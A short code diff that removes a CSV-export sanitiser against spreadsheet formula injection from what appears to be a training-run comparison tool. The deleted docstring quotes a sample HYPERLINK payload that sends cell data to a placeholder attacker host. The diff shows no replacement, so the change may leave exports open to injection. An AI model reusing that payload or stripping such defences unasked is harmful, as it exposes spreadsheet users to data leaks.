@@ -73,21 +73,6 @@ def comparison_table(records: Sequence[RunRecord]) -> pd.DataFrame:
     return frame
 
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as a formula at a cell's start
-
-
-def csv_text(frame: pd.DataFrame) -> str:
-    """The table as CSV, with every text cell that a spreadsheet would run as a formula made plain text.
-
-    A run named `=HYPERLINK("http://evil.example/?leak="&B2,"Open results")` reached the teacher's download as a
-    live formula. Such a cell gets a leading apostrophe (OWASP's advice); numbers stay numbers.
-    """
-    def safe(value: object) -> object:
-        return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
-
-    return frame.map(safe).to_csv(index=False)
-
-
 NOT_METRICS = ("learning_rate", *POSITIONS)  # history keys that are not curves
 X_AXES = {"epochs": "epoch", "share": "share of its planned epochs", "seconds": "seconds of training"}
 
